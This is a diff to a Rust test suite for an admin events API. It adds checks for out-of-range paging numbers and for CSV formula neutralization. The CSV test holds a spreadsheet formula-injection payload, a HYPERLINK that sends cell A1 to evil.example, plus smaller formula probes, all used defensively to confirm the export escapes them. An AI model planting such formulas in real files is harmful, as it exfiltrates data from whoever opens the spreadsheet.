@@ -444,6 +444,92 @@ db_test!(async fn a_large_export_streams_every_event_once(db) {
     assert_eq!(body, format!("{}\n", gatehouse::events::export::CSV_HEADER));
 });
 
+// Every admin path that takes a number, with numbers out of every range: paging parameters
+// (`first`, `max`) answer 400 in the admin API's error shape; the events API's cursor and times
+// answer 200 or 400. Nothing is a 5xx, a dropped connection or a panic (a `first` past the
+// databases' integer range used to abort the request in the SQL layer).
+db_test!(async fn out_of_range_numbers_get_400_and_never_abort_a_request(db) {
+    let h = start(db).await;
+    let token = service_token(&h, "pipeline").await;
+    let client = reqwest::Client::new();
+    let ask = |path: String| {
+        let request = client.get(format!("{}{path}", h.url)).bearer_auth(&token);
+        async move {
+            let response = request
+                .send()
+                .await
+                .unwrap_or_else(|e| panic!("{path}: no answer, the connection was dropped: {e}"));
+            let status = response.status();
+            (path, status, response.text().await.unwrap_or_default())
+        }
+    };
+    let numbers = [
+        "2147483648",
+        "9223372036854775807",
+        "9223372036854775808",
+        "18446744073709551615",
+        "18446744073709551616",
+        "99999999999999999999999999",
+        "-1",
+        "-9223372036854775809",
+        "1e3",
+    ];
+    let collections = ["users", "clients", "roles", "roles/auditor/users", "events"];
+    let mut paging: Vec<String> = Vec::new();
+    for collection in collections {
+        for number in numbers.iter().chain(&["0", "1001"]) {
+            paging.push(format!("/admin/realms/flows/{collection}?max={number}"));
+        }
+        for number in numbers.iter().filter(|_| collection != "events") {
+            paging.push(format!("/admin/realms/flows/{collection}?first={number}"));
+        }
+    }
+    for path in paging {
+        let (path, status, body) = ask(path).await;
+        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}: {body}");
+        let body: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{path}: not JSON ({e}): {body}"));
+        assert_eq!(body["error"], "invalid_request", "{path}: {body}");
+        assert!(body["errorMessage"].is_string(), "{path}: {body}");
+    }
+    // The largest `first` still pages (past the end: nothing).
+    for collection in collections.iter().filter(|c| **c != "events") {
+        let path = format!("/admin/realms/flows/{collection}?first=2147483647&max=1000");
+        assert_eq!(get_json(&h, &path, &token).await, json!([]), "{path}");
+    }
+    // The events API's cursor and times: whatever the number, a 200 or a 400, never a 5xx.
+    let mut events: Vec<String> = Vec::new();
+    for number in numbers.iter().chain(&["-9223372036854775808", "0"]) {
+        events.push(format!("/admin/realms/flows/events?before={number}"));
+    }
+    for when in [
+        "9223372036854775807s",
+        "9223372036854775807w",
+        "15250284452471w",
+        "153722867280912930m",
+        "0000-01-01",
+        "9999-12-31T23:59:59Z",
+        "9999-12-31T23:59:59-23:59",
+    ] {
+        for name in ["since", "until"] {
+            events.push(format!("/admin/realms/flows/events?{name}={when}&max=1"));
+            events.push(format!("/admin/realms/flows/events?{name}={when}&format=csv"));
+        }
+    }
+    for path in events {
+        let (path, status, body) = ask(path).await;
+        assert!(
+            status == StatusCode::OK || status == StatusCode::BAD_REQUEST,
+            "{path}: {status} {body}"
+        );
+        if status == StatusCode::BAD_REQUEST {
+            let body: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{path}: not JSON ({e}): {body}"));
+            assert_eq!(body["error"], "invalid_request", "{path}: {body}");
+        }
+    }
+    let metrics = reqwest::get(format!("{}/metrics", h.url)).await.unwrap().text().await.unwrap();
+    assert!(metrics.contains("\ngatehouse_http_panics_total 0\n"), "{metrics}");
+});
+
 db_test!(async fn bad_event_queries_get_400_with_a_message(db) {
     let h = start(db).await;
     let token = service_token(&h, "pipeline").await;
@@ -535,4 +621,36 @@ db_test!(async fn the_openapi_document_describes_clients_roles_and_events(db) {
     let client = schemas["ClientRepresentation"]["properties"].as_object().expect("ClientRepresentation");
     assert!(client.contains_key("clientId") && !client.keys().any(|k| k.contains("ecret")), "{client:?}");
     assert!(schemas["EventRepresentation"]["properties"]["ipAddress"].is_object());
+});
+
+// The CSV export neutralizes cells a spreadsheet would run as formulas (a user agent or a
+// client id an attacker chose): a leading `'`, so they show as text. JSON Lines keep the
+// values exactly.
+db_test!(async fn csv_exports_neutralize_formula_cells(db) {
+    let h = start(db).await;
+    let token = service_token(&h, "pipeline").await;
+    let agent = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
+    let probe = NewEvent {
+        realm: "flows".into(),
+        kind: "csv_probe".into(),
+        client_id: Some("+SUM(1,2)".into()),
+        ip: Some("-1+2".into()),
+        user_agent: Some(agent.into()),
+        details: json!({ "note": "@cmd" }),
+        ..Default::default()
+    };
+    h.state.store.insert_event_at(probe, gatehouse::store::now()).await.unwrap();
+    let (status, _, body) = get(&h, "/admin/realms/flows/events?format=csv&type=csv_probe", Some(&token)).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let rows = parse_csv(&body);
+    assert_eq!(rows.len(), 2, "{body}");
+    let row = &rows[1];
+    assert_eq!(row[6], "'+SUM(1,2)", "{body}");
+    assert_eq!(row[7], "'-1+2", "{body}");
+    assert_eq!(row[8], format!("'{agent}"), "{body}");
+    assert_eq!(row[9], "{\"note\":\"@cmd\"}", "details start with '{{' and stay as they are");
+    assert!(body.lines().skip(1).all(|l| !l.starts_with(['=', '+', '-', '@'])), "{body}");
+    let (_, _, jsonl) = get(&h, "/admin/realms/flows/events?format=jsonl&type=csv_probe", Some(&token)).await;
+    let line: Value = serde_json::from_str(jsonl.trim()).expect("one JSON line");
+    assert_eq!(line["userAgent"], agent);
 });
